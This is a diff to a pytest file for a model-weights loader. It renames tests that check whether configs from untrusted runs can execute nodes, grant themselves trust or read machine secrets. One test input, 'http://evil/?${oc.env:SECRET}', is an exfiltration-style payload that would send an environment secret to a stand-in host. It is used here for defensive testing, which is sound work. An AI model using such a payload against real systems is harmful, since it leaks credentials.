@@ -29,14 +29,14 @@ def run(tmp_path) -> Run:
     return run
 
 
-def poison(run: Run, key: str, node: dict) -> RunWeights:
+def changed_run(run: Run, key: str, node: dict) -> RunWeights:
     config = OmegaConf.load(run.config)
     OmegaConf.update(config, key, node, force_add=True)
     OmegaConf.save(config, run.config)
     return RunWeights(str(run.path))
 
 
-def test_model_and_tokenizer_come_back(run):
+def test_model_and_tokenizer_equal_the_saved_ones(run):
     weights = RunWeights(str(run.path))
     model = weights.model()
     assert not model.training
@@ -56,31 +56,31 @@ def test_model_and_tokenizer_come_back(run):
     ],
 )
 @pytest.mark.parametrize("key", ["task.model.extra", "task.model.norm", "task.model.position"])
-def test_a_strangers_node_is_refused_before_it_is_called(run, tmp_path, node, key):
+def test_node_of_an_untrusted_run_is_refused_before_it_is_called(run, tmp_path, node, key):
     victim = tmp_path / "thesis.txt"
     victim.write_text("years of work")
     node = {name: value.replace("VICTIM", str(victim)) for name, value in node.items()}
     with pytest.raises(ConfigError):
-        poison(run, key, node).model()
+        changed_run(run, key, node).model()
     assert victim.read_text() == "years of work"
 
 
-def test_a_stranger_cannot_say_whom_to_trust(run):
-    weights = poison(run, "trust", ["antigravity_package"])
+def test_trust_in_the_config_of_a_run_is_ignored(run):
+    weights = changed_run(run, "trust", ["antigravity_package"])
     assert weights.config.trust == []
 
 
-def test_nor_whom_its_base_is_to_trust(run):
+def test_trust_of_the_base_in_the_config_of_a_run_is_ignored(run):
     node = {"_target_": "llm.weights.run.RunWeights", "path": str(run.path)}
-    weights = poison(run, "weights", {**node, "trust": ["antigravity_package"]})
+    weights = changed_run(run, "weights", {**node, "trust": ["antigravity_package"]})
     base = weights.base_weights(weights.config)
     assert isinstance(base, RunWeights)
     assert list(base.trust) == []
 
 
-def test_a_harmless_but_unknown_key_is_refused_too(run):
+def test_unknown_key_is_refused(run):
     with pytest.raises(ConfigError, match=r"model\.colour"):
-        poison(run, "task.model.colour", "red").model()
+        changed_run(run, "task.model.colour", "red").model()
 
 
 def test_the_last_checkpoint_is_used_if_there_is_no_best(run):
@@ -119,8 +119,8 @@ def test_the_previous_checkpoint_is_used_if_the_last_is_damaged_or_missing(
 
 
 @pytest.mark.parametrize("key", ["task.reward.trust", "data.path.trust", "callbacks.x.y.trust"])
-def test_nor_does_any_part_of_a_strangers_run(run, key):
-    weights = poison(run, key, ["antigravity_package"])
+def test_trust_of_any_node_in_the_config_of_a_run_is_replaced(run, key):
+    weights = changed_run(run, key, ["antigravity_package"])
     assert OmegaConf.select(weights.config, key) == []
     trusting = RunWeights(str(run.path), trust=["mine"])
     assert OmegaConf.select(trusting.config, key) == ["mine"]
@@ -128,8 +128,8 @@ def test_nor_does_any_part_of_a_strangers_run(run, key):
 
 @pytest.mark.parametrize("value", ["${oc.env:SECRET}", "http://evil/?${oc.env:SECRET}"])
 @pytest.mark.parametrize("wrap", [str, lambda value: [value]])
-def test_an_untrusted_run_reads_nothing_of_this_machine(run, monkeypatch, value, wrap):
+def test_interpolations_in_an_untrusted_run_are_refused(run, monkeypatch, value, wrap):
     monkeypatch.setenv("SECRET", "sk-123")
-    weights = poison(run, "data.path", {"_target_": "a.b", "url": wrap(value)})
+    weights = changed_run(run, "data.path", {"_target_": "a.b", "url": wrap(value)})
     with pytest.raises(ConfigError, match="would be looked up on this machine"):
         weights.model()
